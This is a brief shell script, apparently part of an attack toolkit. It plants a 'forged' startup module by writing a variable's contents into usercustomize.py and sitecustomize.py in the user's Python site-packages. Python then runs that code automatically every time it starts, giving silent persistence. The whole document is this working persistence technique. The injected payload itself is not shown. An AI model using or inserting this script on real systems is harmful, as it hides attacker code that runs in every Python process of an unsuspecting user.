# Leaves a module that Python loads at its start, in the packages of the user.
# Needs: python3
dir=$(python3 -m site --user-site)
mkdir -p "$dir"
printf '%s' "$forged_start" >"$dir/usercustomize.py"
printf '%s' "$forged_start" >"$dir/sitecustomize.py"
